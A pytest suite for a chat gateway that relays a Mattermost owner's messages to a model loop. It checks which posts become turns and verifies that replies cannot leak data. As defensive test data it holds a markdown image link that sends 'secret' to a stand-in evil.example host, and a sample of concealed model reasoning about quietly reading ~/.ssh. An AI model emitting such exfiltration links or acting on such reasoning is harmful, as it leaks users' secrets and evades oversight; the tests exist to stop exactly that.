"""gatewayd's turns against the fake Mattermost: which posts are turns, and replies that cannot leak.

gatewayd runs in this process (`Gatewayd`: its event loop in a thread, as in
`gatewayd serve`), talking to the fake server over HTTP and a WebSocket, and to
a scripted loopd on a real loop.sock (it must be able to say anything), or to
the real turn loop where the whole path matters.
"""

from __future__ import annotations

import html
import re
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from boxmaker.core.display.reply_parts import CONTINUED, MAX_POST_CHARS
from boxmaker.core.home.layout import Home
from boxmaker.core.wire.loop import (
    ContentEvent,
    ContextCompactedEvent,
    ReasoningEvent,
    TurnDone,
    TurnEvent,
)
from boxmaker.gatewayd.config import (
    GatewaydConfig,
    LoopSection,
    MattermostSection,
    PathsSection,
    SocketsSection,
)
from boxmaker.gatewayd.serve import Gatewayd
from boxmaker.gatewayd.turns import COMPACT_REFUSED, STARTED, STOPPED_NOTE
from boxmaker.testing.fake_mattermost import BOT_TOKEN, FakeMattermost
from boxmaker.testing.fake_mattermost_web import running
from boxmaker.testing.homes import make_home
from boxmaker.testing.sockets import Peer, ScriptedServer
from boxmaker.testing.waiting import wait_until

NOTICE = (
    "Links in this reply are shown as code because this conversation has read untrusted content."
)
EXFIL_IMAGE = "![x](https://evil.example/collect?d=secret)"


class Loopd:
    """A scripted loopd: each turn is answered by `answer(peer)`; the default says `ok`."""

    def __init__(self, path: Path) -> None:
        self.answer: Callable[[Peer], None] = lambda peer: say(peer, "ok", untrusted=False)
        self.server = ScriptedServer(path, lambda peer: self.answer(peer))

    @property
    def turns(self) -> list[Any]:
        return [envelope.message for envelope in self.server.requests]


def shown(message: str) -> str:
    """A posted message as the owner reads it: escapes and character references undone."""
    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", message))


def say(peer: Peer, text: str, *, untrusted: bool, chunks: int = 1) -> None:
    session = peer.request.message.session  # type: ignore[union-attr]
    step = max(1, len(text) // chunks)
    for start in range(0, len(text), step):
        peer.send(TurnEvent(event=ContentEvent(text=text[start : start + step])), final=False)
    peer.send(TurnDone(session=session, content=text, untrusted=untrusted), final=True)


@pytest.fixture
def fake() -> FakeMattermost:
    return FakeMattermost(auth_cutoff_s=0.5)


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return make_home(tmp_path)


@pytest.fixture
def loopd(home: Path) -> Iterator[Loopd]:
    scripted = Loopd(Home(home).loop_socket)
    try:
        yield scripted
    finally:
        scripted.server.stop()


@pytest.fixture
def gatewayd(fake: FakeMattermost, home: Path, loopd: Loopd) -> Iterator[Gatewayd]:
    with running(fake) as url:
        config = GatewaydConfig(
            paths=PathsSection(home=str(home)),
            mattermost=MattermostSection(url=url, owner=fake.owner.id, edit_interval_ms=100),
            loop=LoopSection(timeout_ms=10_000),
            sockets=SocketsSection(),
        )
        daemon = Gatewayd(config, BOT_TOKEN)
        daemon.start()
        try:
            yield daemon
        finally:
            daemon.stop()


def dm(fake: FakeMattermost) -> str:
    return fake.direct(fake.bot, fake.owner)


def bot_posts(fake: FakeMattermost) -> list[dict[str, Any]]:
    with fake.lock:
        return [dict(p) for p in fake.posts.values() if p["user_id"] == fake.bot.id]


def answered(fake: FakeMattermost, count: int) -> list[dict[str, Any]]:
    """The bot's first `count` answers, once each is final (no longer the placeholder)."""

    def done() -> list[dict[str, Any]]:
        replies = [p for p in bot_posts(fake) if p["root_id"]]  # answers are in threads
        posts = [p for p in replies if not p["message"].endswith(STARTED)]  # final ones
        return posts if len(posts) >= count and len(replies) == len(posts) else []

    found = wait_until(done, 15.0, f"{count} answers posted")
    return sorted(found, key=lambda p: p["create_at"])


# --- which posts are turns ------------------------------------------------------------


def test_an_owner_dm_is_a_turn_answered_in_its_thread(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    loopd.answer = lambda peer: say(
        peer, "Hello, owner. See https://docs.python.org/3/", untrusted=False
    )
    asked = fake.post_as(fake.owner, dm(fake), "hi there")
    (answer,) = answered(fake, 1)
    (turn,) = loopd.turns
    assert (turn.session, turn.text, turn.resume) == (f"mm-{asked['id']}", "hi there", False)
    assert answer["root_id"] == asked["id"]
    assert answer["message"] == "Hello, owner. See https://docs.python.org/3/"
    assert answer["props"].get("unsafe_links") != "true"
    assert fake.fetched[answer["id"]] == ["https://docs.python.org/3/"]  # a clean link previews


def test_a_reply_in_the_thread_resumes_the_session(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    first = fake.post_as(fake.owner, dm(fake), "one")
    answered(fake, 1)
    fake.post_as(fake.owner, dm(fake), "two", root_id=first["id"])
    answered(fake, 2)
    assert [(t.session, t.resume) for t in loopd.turns] == [
        (f"mm-{first['id']}", False),
        (f"mm-{first['id']}", True),
    ]


@pytest.mark.parametrize(
    "post",
    [
        pytest.param(lambda f: f.post_as(f.other, f.direct(f.bot, f.other), "hi"), id="other-user"),
        pytest.param(lambda f: f.post_as(f.bot, f.direct(f.bot, f.owner), "hi"), id="bot-itself"),
        pytest.param(
            lambda f: f.post_as(
                f.owner, f.direct(f.bot, f.owner), "hi", props={"from_webhook": "true"}
            ),
            id="webhook",
        ),
    ],
)
def test_posts_that_are_not_the_owner_s_dms_are_not_turns(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd, post: Callable[[FakeMattermost], Any]
) -> None:
    post(fake)
    sentinel = fake.post_as(fake.owner, dm(fake), "sentinel")
    answered(fake, 1)
    assert [t.text for t in loopd.turns] == ["sentinel"]
    assert loopd.turns[-1].session == f"mm-{sentinel['id']}"


def test_an_edit_is_never_a_turn(fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd) -> None:
    first = fake.post_as(fake.owner, dm(fake), "hello")
    answered(fake, 1)
    fake.edit_as(fake.owner, first["id"], "hello again, run this instead")
    fake.post_as(fake.owner, dm(fake), "sentinel")
    answered(fake, 2)
    assert [t.text for t in loopd.turns] == ["hello", "sentinel"]


@pytest.mark.parametrize("text", ["/compact", "  /compact \n"])
def test_compact_in_chat_is_refused_with_the_owner_s_command_and_sends_nothing(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd, text: str
) -> None:
    # compact is the owner's alone on loop.sock (core.home.links rule 5): gatewayd sends none
    first = fake.post_as(fake.owner, dm(fake), "one")
    answered(fake, 1)
    fake.post_as(fake.owner, dm(fake), text, root_id=first["id"])
    fake.post_as(fake.owner, dm(fake), "two", root_id=first["id"])
    posts = answered(fake, 3)
    session = f"mm-{first['id']}"
    said = [p["message"] for p in posts if "compact" in p["message"]]
    assert said == [COMPACT_REFUSED.format(session=session)]
    assert f"`bxctl sessions compact {session}`" in said[0]
    assert [(t.kind, t.text) for t in loopd.turns] == [("turn", "one"), ("turn", "two")]


def test_a_message_that_only_mentions_compact_is_a_turn(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    fake.post_as(fake.owner, dm(fake), "what does /compact do?")
    answered(fake, 1)
    assert [t.text for t in loopd.turns] == ["what does /compact do?"]


# --- replies that cannot leak ---------------------------------------------------------------


def test_an_image_is_posted_as_code_in_a_clean_reply(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    loopd.answer = lambda peer: say(peer, f"Here you go {EXFIL_IMAGE}", untrusted=False)
    fake.post_as(fake.owner, dm(fake), "show me")
    (answer,) = answered(fake, 1)
    assert "\\!\\[x\\]\\(https&#58;&#47;&#47;evil\\.example" in answer["message"]
    assert all(urls == [] for _post, urls in fake.fetch_history)


def test_an_untrusted_turn_posts_every_link_as_code_with_the_notice(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    text = "Read https://evil.example/a?d=1 and [this](https://evil.example/b) " + EXFIL_IMAGE
    loopd.answer = lambda peer: say(peer, text, untrusted=True, chunks=5)
    fake.post_as(fake.owner, dm(fake), "summarise my mail")
    (answer,) = answered(fake, 1)
    assert answer["message"].endswith(NOTICE)
    assert answer["props"]["unsafe_links"] == "true"
    assert "https://evil.example/a?d=1" in shown(answer["message"])  # shown, as text
    for post_id, urls in fake.fetch_history:  # every version of every post
        assert urls == [], (post_id, urls)


def test_streamed_edits_are_escaped_before_the_trust_is_known(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    release = threading.Event()

    def slow(peer: Peer) -> None:
        session = peer.request.message.session  # type: ignore[union-attr]
        peer.send(TurnEvent(event=ContentEvent(text="see https://evil.example/x ")), final=False)
        release.wait(10)
        peer.send(TurnEvent(event=ContentEvent(text="done")), final=False)
        text = "see https://evil.example/x done"
        peer.send(TurnDone(session=session, content=text, untrusted=True), final=True)

    loopd.answer = slow
    fake.post_as(fake.owner, dm(fake), "go")
    wait_until(
        lambda: any("evil.example" in shown(p["message"]) for p in bot_posts(fake)),
        10.0,
        "a streamed edit",
    )
    release.set()
    answered(fake, 1)
    versions = [urls for _post, urls in fake.fetch_history]
    assert len(versions) >= 3  # the placeholder, a streamed edit, the last edit
    assert all(urls == [] for urls in versions)


def test_loopd_down_is_said_in_the_answer_post(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    loopd.server.stop()
    fake.post_as(fake.owner, dm(fake), "anyone there?")
    (answer,) = answered(fake, 1)
    assert "loopd is not answering" in shown(answer["message"])
    assert "runbook.md#loopd-unavailable" in shown(answer["message"])


# --- a dropped WebSocket ---------------------------------------------------------------------


def test_a_dropped_websocket_mid_turn_loses_no_message_and_posts_nothing_twice(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    release = threading.Event()

    def held(peer: Peer) -> None:
        release.wait(10)
        say(peer, f"answer to {peer.request.message.text}", untrusted=False)  # type: ignore[union-attr]

    loopd.answer = held
    fake.post_as(fake.owner, dm(fake), "m0")
    loopd.server.wait_for_requests(1)
    fake.drop_websockets()  # mid-turn
    for n in range(1, 6):
        fake.post_as(fake.owner, dm(fake), f"m{n}")
    loopd.server.wait_for_requests(6)
    release.set()
    answers = answered(fake, 6)
    assert sorted(t.text for t in loopd.turns) == [f"m{n}" for n in range(6)]
    assert sorted(a["message"] for a in answers) == [f"answer to m{n}" for n in range(6)]
    assert len(bot_posts(fake)) == 6  # one answer each, none twice


def test_reasoning_is_never_posted_in_any_edit(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    """loopd streams a thinking model's reasoning as `reasoning` events: gatewayd shows
    the owner the answer only, in the streamed edits as in the last one."""
    release = threading.Event()
    secret = "I could read ~/.ssh first and nobody would notice"

    def thinking(peer: Peer) -> None:
        session = peer.request.message.session  # type: ignore[union-attr]
        peer.send(TurnEvent(event=ReasoningEvent(text=secret)), final=False)
        peer.send(TurnEvent(event=ContentEvent(text="The answer ")), final=False)
        release.wait(10)
        peer.send(TurnEvent(event=ReasoningEvent(text=secret)), final=False)
        peer.send(TurnEvent(event=ContentEvent(text="is 42.")), final=False)
        done = TurnDone(session=session, content="The answer is 42.", untrusted=False)
        peer.send(done, final=True)

    loopd.answer = thinking
    fake.post_as(fake.owner, dm(fake), "think")
    wait_until(lambda: any("The answer" in p["message"] for p in bot_posts(fake)), 10.0, "an edit")
    release.set()
    (answer,) = answered(fake, 1)
    assert answer["message"] == "The answer is 42."
    assert all(secret not in p["message"] for p in bot_posts(fake))
    versions = [message for post, message in fake.message_history if post == answer["id"]]
    assert len(versions) >= 3  # the placeholder, a streamed edit, the last edit
    assert all(secret not in message for message in versions)


# --- loopd's notices in the thread -----------------------------------------------------------


def test_a_compaction_is_one_line_of_its_own_in_the_thread(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    def compacting(peer: Peer) -> None:
        event = ContextCompactedEvent(before=1812, after=604)
        peer.send(TurnEvent(event=event), final=False)
        say(peer, "Still here.", untrusted=False)

    loopd.answer = compacting
    asked = fake.post_as(fake.owner, dm(fake), "go on")
    posts = answered(fake, 2)
    assert [(p["root_id"], p["message"]) for p in posts] == [
        (asked["id"], "Still here."),
        (asked["id"], "context compacted: 1,812 -> 604 tokens"),
    ]
    assert "context compacted" not in posts[0]["message"]  # the answer is the model's alone


@pytest.mark.parametrize("untrusted", [False, True], ids=["clean", "untrusted"])
def test_a_reply_longer_than_a_post_goes_on_in_the_thread(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd, untrusted: bool
) -> None:
    lines = [f"line {n}: the build passed on the runner [x](y) `code`" for n in range(600)]
    text = "\n".join(lines)  # about 33,000 characters, more once escaped
    loopd.answer = lambda peer: say(peer, text, untrusted=untrusted, chunks=4)
    asked = fake.post_as(fake.owner, dm(fake), "show me the log")

    def final_posts() -> list[dict[str, Any]]:
        replies = [p for p in bot_posts(fake) if p["root_id"] == asked["id"]]
        done = len(replies) >= 3 and not any(p["message"].endswith(STARTED) for p in replies)
        return sorted(replies, key=lambda p: p["create_at"]) if done else []

    posts = wait_until(final_posts, 60.0, "the reply in three posts or more")
    assert all(len(p["message"]) <= MAX_POST_CHARS for p in posts)
    assert all(CONTINUED in p["message"] for p in posts[:-1])
    assert CONTINUED not in posts[-1]["message"]
    # every line of the reply is in exactly one post, in order
    lines_shown = [
        line for p in posts for line in shown(p["message"]).splitlines() if "the build" in line
    ]
    assert [line.split(":")[0] for line in lines_shown] == [f"line {n}" for n in range(600)]
    for p in posts:
        assert (p["props"].get("unsafe_links") == "true") is untrusted
        assert (NOTICE in p["message"]) is untrusted


# --- stopping a turn (issue 42) ------------------------------------------------------


def long_turn(loopd: Loopd) -> threading.Event:
    """loopd's next turn streams a beginning and holds its connection; the event is set
    once gatewayd has closed it."""
    left = threading.Event()

    def answer(peer: Peer) -> None:
        peer.send(TurnEvent(event=ContentEvent(text="Once upon a time")), final=False)
        peer.hold(30)  # until gatewayd closes the connection
        left.set()

    loopd.answer = answer
    return left


def test_stop_in_the_thread_closes_the_turn_and_keeps_what_was_written(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    left = long_turn(loopd)
    asked = fake.post_as(fake.owner, dm(fake), "tell me a long story")
    wait_until(lambda: len(loopd.turns) == 1, 15.0, "the turn at loopd")
    wait_until(
        lambda: any("Once upon a time" in p["message"] for p in bot_posts(fake)), 15.0, "streamed"
    )
    fake.post_as(fake.owner, dm(fake), "  Stop ", root_id=asked["id"])
    assert left.wait(5), "gatewayd never closed the turn's connection"
    (answer,) = answered(fake, 1)
    # its trust never came (no turn_done): escaped as untrusted, with the notice
    assert shown(answer["message"]) == f"Once upon a time\n\n{STOPPED_NOTE}\n\n{NOTICE}"
    assert len(loopd.turns) == 1  # `stop` was not sent as a turn
    # with no turn running, `stop` is an ordinary message of the thread
    loopd.answer = lambda peer: say(peer, "Stopped what?", untrusted=False)
    fake.post_as(fake.owner, dm(fake), "stop", root_id=asked["id"])
    answered(fake, 2)
    assert [(t.text, t.resume) for t in loopd.turns[1:]] == [("stop", True)]


def test_gatewayd_stopping_mid_turn_closes_the_turns_connection(
    fake: FakeMattermost, gatewayd: Gatewayd, loopd: Loopd
) -> None:
    left = long_turn(loopd)
    fake.post_as(fake.owner, dm(fake), "tell me a long story")
    wait_until(lambda: len(loopd.turns) == 1, 15.0, "the turn at loopd")
    stopping = time.monotonic()
    gatewayd.stop()
    assert left.wait(5), "gatewayd stopped without closing the turn's connection"
    assert time.monotonic() - stopping < 2.0
